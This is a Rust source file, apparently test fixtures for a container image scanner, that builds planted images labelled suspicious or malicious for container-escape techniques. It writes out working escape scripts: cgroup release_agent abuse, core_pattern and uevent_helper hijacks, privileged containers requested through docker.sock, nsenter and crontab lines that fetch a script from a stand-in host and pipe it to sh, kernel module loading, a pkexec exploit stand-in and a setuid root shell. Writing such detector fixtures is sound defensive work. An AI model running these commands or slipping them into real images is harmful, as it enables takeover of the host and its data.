//! Ways out of the container.

use crate::group;
use crate::shape::{Planted, Shape, malicious, suspicious};
use test_support::standin;

fn started(script: &str) -> Planted {
    Planted::debian().script("run.sh", script).entry(&["/run.sh"])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "escape",
        vec![
            suspicious("release agent of a control group", |s| {
                started(s.pick(
                "#!/bin/sh\nmkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && mkdir /tmp/c/x\necho 1 > /tmp/c/x/notify_on_release\nh=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\necho \"$h/cmd\" > /tmp/c/release_agent\nsh -c 'echo $$ > /tmp/c/x/cgroup.procs'\n",
                "#!/bin/bash\nd=$(dirname $(ls -x /s*/fs/c*/*/r* | head -n1))\nmount -t cgroup -o memory m /mnt; mkdir -p $d/w; echo 1 >$d/w/notify_on_release; echo /payload >$d/release_agent; sh -c \"echo 0 >$d/w/cgroup.procs\"\n",
            ))
            }),
            suspicious("kernel helper redirected", |s| {
                started(s.pick("#!/bin/sh\necho '|/opt/p' > /proc/sys/kernel/core_pattern\n", "#!/bin/sh\nmount -t sysfs s /s; echo /opt/p > /sys/kernel/uevent_helper; echo change > /sys/class/mem/null/uevent\n"))
            }),
            suspicious("privileged container asked of the engine", |s| {
                started(s.pick(
                "#!/bin/sh\ncurl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/host\"]}}' http://x/containers/create\n",
                "#!/bin/sh\ndocker -H unix:///var/run/docker.sock run --privileged -v /:/mnt alpine chroot /mnt sh -c 'id'\n",
            ))
            }),
            suspicious("host's namespaces entered", |s| {
                started(s.pick("#!/bin/sh\nnsenter -t 1 -m -u -i -n -p -- bash -c 'curl http://203.0.113.60/h | sh'\n", "#!/bin/bash\nmkdir -p /h; mount /dev/sda1 /h; chroot /h sh -c 'echo \"* * * * * root curl http://203.0.113.60/h|sh\" >> /etc/crontab'\n"))
            }),
            malicious("working directory through an open descriptor", |s| {
                Planted::debian()
                    .config(|c| c.workdir(s.pick("/proc/self/fd/8", "/proc/1/fd/7/../../..")))
                    .cmd(&["python3"])
            }),
            suspicious("module loaded into the kernel", |s| {
                let script = s.pick(
                    "#!/bin/sh\ninsmod /opt/d.ko\nexec sleep inf\n",
                    "#!/bin/bash\ncd /opt; insmod ./d.ko hide=1 || modprobe -f d\n",
                );
                let mut module = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0\x3e\0\x01\0\0\0".to_vec();
                module.resize(512, 0);
                started(script).file("opt/d.ko", module)
            }),
            malicious("proof of an exploit that the image starts", |s| {
                let program = standin::program_with(
                    &["/usr/bin/pkexec", "GCONV_PATH=./lib", "CHARSET=X", "lib/gconv-modules"],
                    0,
                );
                let script = "#!/bin/sh\necho '|/proc/%P/root/x' > /proc/sys/kernel/core_pattern\n";
                Planted::debian()
                    .script("opt/p", s.pick(program.as_slice(), script.as_bytes()))
                    .entry(&["/opt/p"])
            }),
            suspicious("toolkit for leaving containers", |s| {
                let names =
                    ["docker-sock-pwn", "k8s-backdoor-daemonset", "rewrite-cgroup-devices", "shim-pwn"];
                let program = standin::program_with(s.pick(&names[..3], &names[1..]), 0);
                Planted::debian().script(s.pick("opt/cdk", "usr/local/bin/helper"), program).cmd(&["python3"])
            }),
            suspicious("shell with the rights of root for everybody", |s| {
                let path = s.pick("usr/local/bin/rsh", "opt/.s/bash");
                Planted::debian()
                    .with_mode(path, 0o4755, crate::programs::node())
                    .config(|c| c.user("1000"))
                    .cmd(&["python3", "-m", "http.server"])
            }),
        ],
    )
}
